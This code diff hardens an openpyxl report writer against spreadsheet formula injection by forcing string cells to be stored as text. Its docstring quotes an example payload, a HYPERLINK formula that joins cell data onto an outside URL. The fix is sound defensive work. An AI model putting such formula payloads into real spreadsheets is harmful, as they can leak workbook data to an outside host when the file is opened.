@@ -16,6 +16,7 @@ from collections.abc import Sequence
 from pathlib import Path
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import Cell
 from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
 from openpyxl.utils import get_column_letter
 from openpyxl.worksheet.worksheet import Worksheet
@@ -88,15 +89,25 @@ def sheet_name(title: str, taken: set[str]) -> str:
     return candidate
 
 
+def _cell(sheet: Worksheet, row: int, column: int, value: object) -> Cell:
+    """Write one cell; text is always stored as text. openpyxl makes any string that starts
+    with "=" a formula, so a code name, coder or quote like ``=HYPERLINK("http://…"&A1)``
+    would run when the workbook is opened (spreadsheet formula injection)."""
+    cell = sheet.cell(row=row, column=column, value=value)
+    if isinstance(value, str):
+        cell.data_type = "s"
+    return cell
+
+
 def _write_sheet(sheet: Worksheet, table: ReportTable) -> None:
     shape = layout(table.frame)
     widths = _widths(shape)
     for c, width in enumerate(widths):
         sheet.column_dimensions[get_column_letter(c + 1)].width = width
-    sheet.cell(row=1, column=1, value=table.title).font = _TITLE_FONT
+    _cell(sheet, 1, 1, table.title).font = _TITLE_FONT
     row = 2
     for name, value in table.filters.items():
-        sheet.cell(row=row, column=1, value=f"{name}: {value}").font = _FILTER_FONT
+        _cell(sheet, row, 1, f"{name}: {value}").font = _FILTER_FONT
         row += 1
     first_header = row + 1
     _write_header(sheet, shape, first_header, widths)
@@ -104,7 +115,7 @@ def _write_sheet(sheet: Worksheet, table: ReportTable) -> None:
     _write_body(sheet, shape, first_data, widths)
     row = first_data + len(shape.rows) + 1
     for note in table.notes:
-        sheet.cell(row=row, column=1, value=note).font = _NOTE_FONT
+        _cell(sheet, row, 1, note).font = _NOTE_FONT
         row += 1
     sheet.freeze_panes = sheet.cell(row=first_data, column=shape.label_columns + 1)
     _print_setup(sheet, shape, widths, first_header, first_data)
@@ -114,7 +125,7 @@ def _write_header(sheet: Worksheet, shape: Layout, top: int, widths: list[float]
     multi = len(shape.header) > 1
     for r, header_row in enumerate(shape.header):
         for c, text in enumerate(header_row, start=1):
-            cell = sheet.cell(row=top + r, column=c, value=text or None)
+            cell = _cell(sheet, top + r, c, text or None)
             cell.fill = _HEADER_FILL
             cell.border = _BORDER
             level_name = multi and c <= shape.label_columns and r < len(shape.header) - 1
@@ -141,7 +152,7 @@ def _write_body(sheet: Worksheet, shape: Layout, top: int, widths: list[float]) 
         bold = r in shape.emphasised_rows
         for c, value in enumerate(values):
             shown = format_cell(value) if isinstance(value, bool) else value
-            cell = sheet.cell(row=top + r, column=c + 1, value=shown)
+            cell = _cell(sheet, top + r, c + 1, shown)
             cell.border = _BORDER
             cell.font = _BOLD if bold else _BODY_FONT
             cell.alignment = Alignment(vertical="top", wrap_text=c in wrapped)
